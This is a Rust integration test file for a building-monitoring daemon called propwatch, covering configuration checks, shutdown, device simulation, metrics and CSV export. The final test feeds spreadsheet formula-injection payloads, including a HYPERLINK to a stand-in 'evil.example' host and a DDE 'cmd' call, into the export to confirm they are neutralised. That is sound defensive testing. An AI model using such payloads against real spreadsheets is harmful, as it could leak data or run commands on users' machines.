//! The binary as an operator uses it: `check-config` reports every problem and exits 64,
//! `run` refuses a bad config before binding anything and stops cleanly on SIGTERM,
//! `simulate` takes scenarios by flag and over HTTP, and /metrics passes `promtool`.

mod common;

use std::process::{Command, Stdio};
use std::time::Duration;

use common::*;

const BIN: &str = env!("CARGO_BIN_EXE_propwatch");

#[test]
fn check_config_reports_every_problem_and_exits_64() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("profiles")).unwrap();
    let path = write_site(
        dir.path(),
        r#"
[site]
id = "bad"
[[connections]]
id = "gw"
transport = "tcp"
address = "127.0.0.1:1502"
[[rooms]]
id = "r"
[[rooms.devices]]
id = "a"
profile = "no-such-profile"
connection = "gw"
[[rooms.devices]]
id = "a"
profile = "sim-elevator"
connection = "gw"
unit_id = 256
"#,
    );
    std::fs::write(
        dir.path().join("profiles/broken.toml"),
        "[profile]\nid = \"broken\"\n[[points]]\nid = \"x\"\nfunction = 3\naddress = 0\ntype = \"f32\"\nbyte_order = \"ACBD\"\n",
    )
    .unwrap();
    let out = Command::new(BIN)
        .args(["check-config", "--config"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(64), "exit code");
    let err = String::from_utf8_lossy(&out.stderr);
    for want in [
        "4 configuration problem(s)",
        "site.toml: rooms[0].devices[0].profile: unknown profile \"no-such-profile\"",
        "site.toml: rooms[0].devices[1].id: duplicate device id \"a\"",
        "site.toml: rooms[0].devices[1].unit_id: unit id 256 out of range",
        "broken.toml: points[0].byte_order: unknown byte order \"ACBD\"",
    ] {
        assert!(err.contains(want), "missing {want:?} in:\n{err}");
    }
}

#[test]
fn check_config_accepts_the_demo_estate() {
    let out = Command::new(BIN)
        .args(["check-config", "--config"])
        .arg(repo().join("config/demo.toml"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("ok: site \"lvyuan\""), "{text}");
    // one line per RTU connection (the demo has two RTU-over-TCP buses), none for TCP
    assert_eq!(
        text.matches("device turnaround not included").count(),
        2,
        "{text}"
    );
    assert!(
        text.contains("connection \"lift-bus\" (rtu_over_tcp, 9600 baud, 11-bit characters)"),
        "{text}"
    );
    assert!(!String::from_utf8_lossy(&out.stderr).contains("warning"));
}

#[test]
fn check_config_warns_when_an_rtu_line_cannot_keep_up() {
    // ten DTSU666 meters on one 9600-baud line: 40 reads, 1040 frame bytes, at least
    // 1352.1 ms a cycle. Polled every 1 s that is 135 % of the line: a warning, not an error.
    let dir = tempfile::tempdir().unwrap();
    let mut site = String::from(
        "[site]\nid = \"m\"\n[[connections]]\nid = \"meters\"\ntransport = \"rtu\"\nserial_port = \"/dev/null\"\nbaud_rate = 9600\nparity = \"even\"\n[[rooms]]\nid = \"r\"\n",
    );
    for unit in 1..=10 {
        site.push_str(&format!(
            "[[rooms.devices]]\nid = \"m{unit}\"\nprofile = \"chnt-dtsu666\"\nconnection = \"meters\"\nunit_id = {unit}\npoll_interval_ms = 1000\n"
        ));
    }
    let path = write_site(dir.path(), &site);
    let out = Command::new(BIN)
        .args(["check-config", "--config"])
        .arg(&path)
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(
        stdout.contains("40 Modbus read(s) per full poll cycle"),
        "{stdout}"
    );
    assert!(
        stdout.contains(
            "connection \"meters\" (rtu, 9600 baud, 11-bit characters): one poll of its 10 device(s) takes at least 1352.1 ms on the line: 40 transaction(s), 1040 frame bytes (1191.7 ms), 40 x 4.01 ms silence"
        ),
        "{stdout}"
    );
    assert!(
        stderr.contains("warning: connection \"meters\": the poll intervals of its devices ask for 135 % of the line"),
        "{stderr}"
    );
    assert!(stderr.contains("the bus cannot keep up"), "{stderr}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_refuses_a_bad_config_and_stops_cleanly_on_sigterm() {
    let dir = tempfile::tempdir().unwrap();
    let port = 0;
    let bad = write_site(
        dir.path(),
        &format!("[site]\nid = \"x\"\n[http]\nlisten = \"127.0.0.1:{port}\"\nsurprise = 1\n"),
    );
    let out = Command::new(BIN)
        .args(["run", "--config"])
        .arg(&bad)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&out.stderr).contains("surprise"));
    // a device on port 0 is something only the simulator can bind: refused before binding
    let zero = write_site(
        dir.path(),
        "[site]\nid = \"x\"\n[http]\nlisten = \"127.0.0.1:0\"\n[[connections]]\nid = \"gw\"\ntransport = \"tcp\"\naddress = \"127.0.0.1:0\"\n[[rooms]]\nid = \"r\"\n[[rooms.devices]]\nid = \"lift\"\nprofile = \"sim-elevator\"\nconnection = \"gw\"\n",
    );
    let out = Command::new(BIN)
        .args(["run", "--config"])
        .arg(&zero)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(64));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("port 0"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // a device nobody answers for: the daemon runs, reports it offline, and stops on SIGTERM
    let dead = free_port();
    let good = write_site(
        dir.path(),
        &format!(
            "[site]\nid = \"x\"\n[http]\nlisten = \"127.0.0.1:{port}\"\n[[connections]]\nid = \"gw\"\ntransport = \"tcp\"\naddress = \"127.0.0.1:{dead}\"\nconnect_timeout_ms = 200\n[[rooms]]\nid = \"r\"\n[[rooms.devices]]\nid = \"lift\"\nprofile = \"sim-elevator\"\nconnection = \"gw\"\npoll_interval_ms = 100\n"
        ),
    );
    // the daemon binds port 0 and says which port it got
    let log = dir.path().join("daemon.log");
    let mut cmd = Command::new(BIN);
    cmd.args(["run", "--config"]).arg(&good);
    let (mut child, ports) = spawn_daemon(
        cmd,
        &dir.path().join("ports.json"),
        &log,
        Duration::from_secs(20),
    )
    .await;
    let base = format!("http://127.0.0.1:{}", ports.http());
    let ready = format!("{base}/readyz");
    wait_for("ready", Duration::from_secs(20), || get_text(&ready)).await;
    wait_for(
        "device reported offline",
        Duration::from_secs(20),
        || async {
            let m = Metrics::parse(&get_text(&format!("{base}/metrics")).await?);
            (m.get("propwatch_device_up", &[("device", "lift")])? == 0.0
                && m.sum("propwatch_modbus_connects_total", &[("result", "error")]) >= 3.0)
                .then_some(())
        },
    )
    .await;
    let status = Command::new("kill")
        .args(["-TERM", &child.0.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    let code = wait_for("exit after SIGTERM", Duration::from_secs(15), || {
        let r = child.0.try_wait().ok().flatten();
        async move { r }
    })
    .await;
    assert_eq!(code.code(), Some(0));
    let err = std::fs::read_to_string(&log).unwrap();
    assert!(
        err.contains("SIGTERM received") && err.contains("propwatch stopped"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn simulate_takes_scenarios_by_flag_and_over_http() {
    let dir = tempfile::tempdir().unwrap();
    // both on port 0: the simulator binds them and says where
    let (modbus, http) = (0, 0);
    let path = write_site(
        dir.path(),
        &format!(
            "[site]\nid = \"x\"\n[simulator]\nhttp_listen = \"127.0.0.1:{http}\"\n[[connections]]\nid = \"fire\"\ntransport = \"rtu_over_tcp\"\naddress = \"127.0.0.1:{modbus}\"\n[[rooms]]\nid = \"r\"\nkind = \"fire_control\"\n[[rooms.devices]]\nid = \"panel\"\nprofile = \"gb26875-fire-panel\"\nconnection = \"fire\"\n[[rooms.devices]]\nid = \"lift\"\nprofile = \"sim-elevator\"\nconnection = \"fire\"\nunit_id = 2\n"
        ),
    );
    let mut cmd = Command::new(BIN);
    cmd.args(["simulate", "--scenario", "fire", "--config"])
        .arg(&path);
    let (_sim, ports) = spawn_daemon(
        cmd,
        &dir.path().join("ports.json"),
        &dir.path().join("simulate.log"),
        Duration::from_secs(20),
    )
    .await;
    let base = format!("http://127.0.0.1:{}", ports.sim());
    let value = |dev: &'static str, point: &'static str| {
        let url = format!("{base}/devices/{dev}/points/{point}");
        async move {
            let v: serde_json::Value = serde_json::from_str(&get_text(&url).await?).ok()?;
            v["value"].as_f64()
        }
    };
    wait_for(
        "fire from the --scenario flag",
        Duration::from_secs(20),
        || async { (value("panel", "fire").await? == 1.0).then_some(()) },
    )
    .await;
    let client = common::client();
    let r = client
        .post(format!("{base}/scenarios/entrapment?device=lift"))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success());
    wait_for("entrapment over HTTP", Duration::from_secs(20), || async {
        (value("lift", "alarm_button").await? == 1.0).then_some(())
    })
    .await;
    // bad requests are refused with a reason
    let r = client
        .post(format!("{base}/scenarios/meteor"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let body: serde_json::Value = r.json().await.unwrap();
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .starts_with("unknown scenario \"meteor\""),
        "{body}"
    );
    let r = client
        .post(format!("{base}/scenarios/offline"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400, "offline needs a device");
    let r = client
        .post(format!("{base}/scenarios/fire?device=nobody"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let r = client
        .delete(format!("{base}/scenarios"))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success());
    wait_for("cleared", Duration::from_secs(20), || async {
        (value("panel", "fire").await? == 0.0).then_some(())
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_pass_promtool_check() {
    let served = SimulatedSite::start(
        2,
        |a| {
            format!("[site]\nid = \"x\"\n[http]\nlisten = \"127.0.0.1:0\"\n[[connections]]\nid = \"a\"\ntransport = \"tcp\"\naddress = \"{}\"\n[[connections]]\nid = \"b\"\ntransport = \"rtu_over_tcp\"\naddress = \"{}\"\n[[rooms]]\nid = \"r\"\n[[rooms.devices]]\nid = \"pump\"\nprofile = \"sim-pump-room\"\nconnection = \"a\"\npoll_interval_ms = 200\n[[rooms.devices]]\nid = \"meter\"\nprofile = \"chnt-dtsu666\"\nconnection = \"a\"\nunit_id = 2\npoll_interval_ms = 200\n[[rooms.devices]]\nid = \"lift\"\nprofile = \"sim-elevator\"\nconnection = \"b\"\npoll_interval_ms = 200\n",
                a[0], a[1]
            )
        },
        &[],
    )
    .await;
    let site = served.site.clone();
    let daemon = propwatch::app::start(site).await.unwrap();
    let addr = daemon.http_addr;
    let text = wait_for("points on /metrics", Duration::from_secs(20), || async {
        let t = get_text(&format!("http://{addr}/metrics")).await?;
        t.contains("propwatch_point_volts{").then_some(t)
    })
    .await;
    let mut child = Command::new("promtool")
        .args(["check", "metrics"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("promtool is needed (scripts/test installs prometheus)");
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "promtool check metrics failed:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    daemon.stop(Duration::from_secs(5)).await;
}

/// `propwatch demo` on a copy of the demo estate with free ports: every device, Modbus and
/// MQTT (through the embedded broker), comes online; a simulated MQTT terminal that drops
/// its connection is reported offline by its last will.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn demo_runs_the_whole_estate_including_mqtt() {
    let dir = tempfile::tempdir().unwrap();
    let DemoSite { path } = demo_site(dir.path(), "");
    let mut cmd = Command::new(BIN);
    cmd.args(["demo", "--config"])
        .arg(&path)
        .arg("--state-dir")
        .arg(dir.path().join("state"));
    let (_demo, ports) = spawn_daemon(
        cmd,
        &dir.path().join("ports.json"),
        &dir.path().join("daemon.log"),
        Duration::from_secs(60),
    )
    .await;
    let (http, sim_http) = (ports.http(), ports.sim());
    let status_url = format!("http://127.0.0.1:{http}/api/v1/status");
    let status = || async {
        let v: serde_json::Value = serde_json::from_str(&get_text(&status_url).await?).ok()?;
        Some(v)
    };
    let st = wait_for(
        "every demo device online",
        Duration::from_secs(60),
        || async {
            let v = status().await?;
            (v["devices_online"] == v["devices_total"]).then_some(v)
        },
    )
    .await;
    let mqtt_devices: Vec<&str> = st["rooms"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|r| r["devices"].as_array().unwrap())
        .filter(|d| d["profile"] == "mqtt-lift-terminal")
        .map(|d| d["id"].as_str().unwrap())
        .collect();
    assert!(
        mqtt_devices.len() >= 2,
        "the demo has MQTT lifts: {mqtt_devices:?}"
    );
    let lift = mqtt_devices[0];
    let client = common::client();
    let r = client
        .post(format!(
            "http://127.0.0.1:{sim_http}/scenarios/offline?device={lift}"
        ))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success());
    let device_url = format!("http://127.0.0.1:{http}/api/v1/devices/{lift}");
    // The demo's embedded broker (rumqttd) does not always publish a last will when a client
    // goes away without DISCONNECT (bytebeamio/rumqtt#783): CI saw the lift stay "online" by
    // its will for over 60 s. Here the lift must go offline by its will or, failing that, by
    // its silence (15 s); the will itself is proven against Mosquitto in tests/mqtt.rs.
    wait_for(
        "the MQTT lift offline (last will or silence)",
        Duration::from_secs(60),
        || async {
            let v: serde_json::Value = serde_json::from_str(&get_text(&device_url).await?).ok()?;
            let reason = v["reason"].as_str()?;
            (v["state"] == "offline"
                && (reason == "last will: offline" || reason.starts_with("no message for")))
            .then_some(())
        },
    )
    .await;
    let r = client
        .delete(format!("http://127.0.0.1:{sim_http}/scenarios"))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success());
    wait_for("back online", Duration::from_secs(60), || async {
        let v: serde_json::Value = serde_json::from_str(&get_text(&device_url).await?).ok()?;
        (v["state"] == "online").then_some(())
    })
    .await;
}

/// The CLI shows times in the site's time zone (every API response names its offset), not in
/// a fixed +08:00: a site at -03:00 whose incident opened at 2026-01-01 00:00:05 UTC lists it
/// at 2025-12-31 21:00.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cli_shows_times_in_the_sites_time_zone() {
    let site = format!(
        "utc_offset = \"-03:00\"\n[[channels]]\nid = \"duty-log\"\ntype = \"log\"\n{}",
        common::notify::DUTY_ROSTER
    );
    let h = common::notify::Harness::start(&site, 1, Some(1_767_225_605_000)).await;
    h.set_flag(0, "fault", true);
    h.wait_incident("equipment_fault").await;
    let url = h.url("");
    let out = tokio::task::spawn_blocking(move || {
        Command::new(BIN)
            .args(["incidents", "list", "--url", &url])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("2025-12-31 21:00"), "{text}");
    h.stop().await;
}

/// The emergency record's CSV cannot run anything in a spreadsheet (issue #17 finding 4): a
/// name, cause or measure typed as a formula (`=HYPERLINK(…)`, DDE `=cmd|…`, `@SUM(…)`, `+…`,
/// `-…`) comes out as text with a leading `'`, read back by Python's csv module (an
/// independent reader), its words intact.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_record_csv_runs_no_formula_in_a_spreadsheet() {
    use propwatch::alarms::Command as Cmd;
    let site = format!(
        "[[channels]]\nid = \"duty-log\"\ntype = \"log\"\n{}",
        common::notify::DUTY_ROSTER
    );
    let h = common::notify::Harness::start(&site, 1, None).await;
    h.set_flag(0, "trapped", true);
    let inc = h.wait_incident("entrapment").await;
    let evil_name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
    h.handle
        .command(Cmd::AckIncident {
            id: inc,
            by: evil_name.into(),
            note: None,
        })
        .await
        .unwrap();
    h.set_flag(0, "trapped", false);
    wait_for(
        "the entrapment back to normal",
        Duration::from_secs(20),
        || async { h.incident(inc).normal_at.map(|_| ()) },
    )
    .await;
    h.handle
        .command(Cmd::Resolve {
            id: inc,
            by: "+王工".into(),
            cause: "=cmd|' /C calc'!A0".into(),
            measures: "@SUM(1+1)\t-2".into(),
        })
        .await
        .unwrap();
    let csv = common::get(h.url("/api/v1/record.csv?from=0"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("record.csv");
    std::fs::write(&file, &csv).unwrap();
    let out = Command::new("python3")
        .arg("-c")
        .arg(
            "import csv, json, sys\n\
             rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))\n\
             print(json.dumps(rows, ensure_ascii=False))",
        )
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rows: Vec<std::collections::BTreeMap<String, String>> =
        serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows.len(), 1, "{csv}");
    for (k, v) in &rows[0] {
        assert!(
            !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{k} would run in a spreadsheet: {v:?}"
        );
    }
    let r = &rows[0];
    assert_eq!(r["acknowledged_by"], format!("'{evil_name}"));
    assert_eq!(r["resolved_by"], "'+王工");
    assert_eq!(r["cause"], "'=cmd|' /C calc'!A0");
    assert_eq!(r["measures"], "'@SUM(1+1)\t-2");
    h.stop().await;
}
